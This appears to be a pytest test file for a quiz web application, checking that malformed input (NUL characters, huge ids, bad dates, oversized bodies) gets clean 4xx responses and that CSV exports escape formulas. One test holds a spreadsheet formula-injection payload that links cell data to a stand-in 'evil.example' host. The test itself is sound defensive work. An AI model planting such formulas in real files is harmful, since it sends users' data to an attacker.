"""A client's malformed request is answered 4xx with a page or JSON of its own kind, on either database."""
import csv
import io

import pytest

from quizapp.models import Question
from tests.forms import PASSWORD, csrf_token_from, post_form
from tests.study.conftest import student, study_set  # noqa: F401

BIG = 10**20


def api_token(client) -> str:
    return client.get("/api/v1/me").get_json()["csrf_token"]


def test_a_nul_in_the_sign_in_email_is_a_400_page(client, make_user):
    """The form is refused before the database is asked for an email PostgreSQL could not compare."""
    make_user("ana@example.org")
    response = post_form(client, "/login", {"email": "ana\x00@example.org", "password": PASSWORD})
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True) and "<html" in response.get_data(as_text=True)


@pytest.mark.parametrize("url", ["/sets/rivers%00", "/history/?set=a%00b", "/classes/join?code=%00"])
def test_a_nul_in_a_path_or_query_is_a_400(client, student, url):
    """Slugs in paths and filters in queries with a NUL are refused, signed in or not."""
    assert client.get(url).status_code == 400


def test_a_nul_in_an_api_answer_is_a_json_400(client, student):
    """The API refuses a JSON body with a NUL anywhere in it, in JSON."""
    question = student[1].questions[1]
    response = client.post("/api/v1/reviews", json={"question_id": question.id, "answer": "Lis\x00bon",
                                                    "client_id": "c1"}, headers={"X-CSRFToken": api_token(client)})
    assert response.status_code == 400
    assert response.get_json() == {"error": "The request holds a NUL character, which no field accepts.", "status": 400}


@pytest.mark.parametrize("url", ["/history/attempts/2147483648", f"/history/attempts/{BIG}",
                                 "/api/v1/cards/9223372036854775808"])
def test_ids_past_what_a_column_holds_are_404(client, student, url):
    """An ``<int:...>`` id no INTEGER column holds names nothing: 404, JSON under the API."""
    response = client.get(url)
    assert response.status_code == 404
    if url.startswith("/api/"):
        assert response.get_json()["status"] == 404


@pytest.mark.parametrize("url, words", [
    (f"/history/?page={BIG}", "“page” must be a whole number from 1 to 100000."),
    ("/history/?page=abc", "“page” must be a whole number"),
    ("/history/export.csv?to=9999-12-31", "“to” must be a date from"),
    ("/history/export.csv?from=0001-01-01", "“from” must be a date from"),
])
def test_unusable_query_parameters_are_a_400_naming_them(client, student, url, words):
    """Page numbers and days nobody could mean are refused by name instead of overflowing."""
    response = client.get(url)
    assert response.status_code == 400
    assert words in response.get_data(as_text=True)


@pytest.mark.parametrize("query", [f"page={BIG}", "per_page=0", "to=9999-12-31"])
def test_unusable_api_history_parameters_are_a_json_400(client, student, query):
    response = client.get("/api/v1/history?" + query)
    assert response.status_code == 400 and response.get_json()["status"] == 400


def test_an_api_review_of_a_huge_question_id_is_404_and_a_huge_duration_is_capped(client, student):
    """question_id 10^20 names no question; duration_ms 10^20 is recorded as the 30-minute cap."""
    token = api_token(client)
    missing = client.post("/api/v1/reviews", json={"question_id": BIG, "rating": 3, "client_id": "x"},
                          headers={"X-CSRFToken": token})
    assert missing.status_code == 404
    question = student[1].questions[0]
    recorded = client.post("/api/v1/reviews", json={"question_id": question.id, "rating": 3, "client_id": "y",
                                                    "duration_ms": BIG}, headers={"X-CSRFToken": token})
    assert recorded.status_code == 201
    assert recorded.get_json()["review"]["duration_ms"] == 30 * 60 * 1000


def test_an_oversized_form_outside_the_api_is_a_413_page(app, client):
    """A body past MAX_CONTENT_LENGTH is refused with the error page (which must not read the body again)."""
    response = client.post("/login", data={"email": "x" * (app.config["MAX_CONTENT_LENGTH"] + 10)})
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "The upload is too large." in html and "<html" in html


def test_confirming_an_import_without_its_token_asks_for_the_file_again(client, auth, make_user):
    """POST /teach/import/confirm with no token is the expired case: back to the upload, not a 500."""
    make_user("teacher@example.org", role="teacher")
    auth.login("teacher@example.org")
    token = csrf_token_from(client.get("/teach/import").get_data(as_text=True))
    response = client.post("/teach/import/confirm", data={"csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"].endswith("/teach/import")


def test_a_formula_typed_as_an_answer_is_escaped_in_the_history_csv(client, student):
    """A typed answer starting with '=' is written after a quote, so a spreadsheet shows it as text."""
    question = student[1].questions[1]
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    client.post("/api/v1/reviews", json={"question_id": question.id, "answer": formula, "client_id": "f1"},
                headers={"X-CSRFToken": api_token(client)})
    rows = list(csv.reader(io.StringIO(client.get("/history/export.csv").get_data(as_text=True))))
    given = [row[5] for row in rows[1:]]
    assert given == ["'" + formula]
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row if not cell.lstrip("-").isdigit())


def test_the_set_csv_escapes_formulas_and_reads_them_back_unchanged():
    """The set CSV writes '=', '+', '-', '@' cells quoted and its reader restores them; '-5' stays a number."""
    from quizapp.formats import csv_format, read
    from tests.formats.formats_factories import gen_question, gen_set

    prompts = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "'=already quoted", "plain"]
    questions = [gen_question(id=f"q{i}", prompt=prompt, answer="@x" if i == 0 else "a") for i, prompt in enumerate(prompts)]
    questions.append(gen_question(id="n", type="numeric", prompt="Below zero?", answer=-5))
    text = csv_format.write(gen_set(questions))
    cells = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert cells[:5] == ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "''=already quoted"]
    assert ",-5," in text
    back = read(text, "csv", filename="set.csv").set.questions
    assert [q.prompt for q in back] == prompts + ["Below zero?"]
    assert back[0].answer == "@x" and back[-1].answer == -5


def test_a_backslash_typed_in_the_editor_blank_is_kept(client, auth, make_user):
    """The question editor keeps ``{{C:\\new}}`` as written: no newline appears, nothing is lost."""
    from quizapp.extensions import db
    from quizapp.models import QuestionSet

    teacher = make_user("teacher@example.org", role="teacher")
    db.session.add(QuestionSet(slug="paths", title="Paths", owner_id=teacher.id, is_published=False))
    db.session.commit()
    auth.login("teacher@example.org")
    response = post_form(client, "/teach/sets/paths/questions/new",
                         {"type": "cloze", "prompt": "Open {{C:\\new}} now", "submit": "Save question"})
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    question = db.session.scalars(db.select(Question).join(QuestionSet).where(QuestionSet.slug == "paths")).one()
    assert question.prompt == "Open {{C:\\new}} now" and question.answer == "C:\\new"
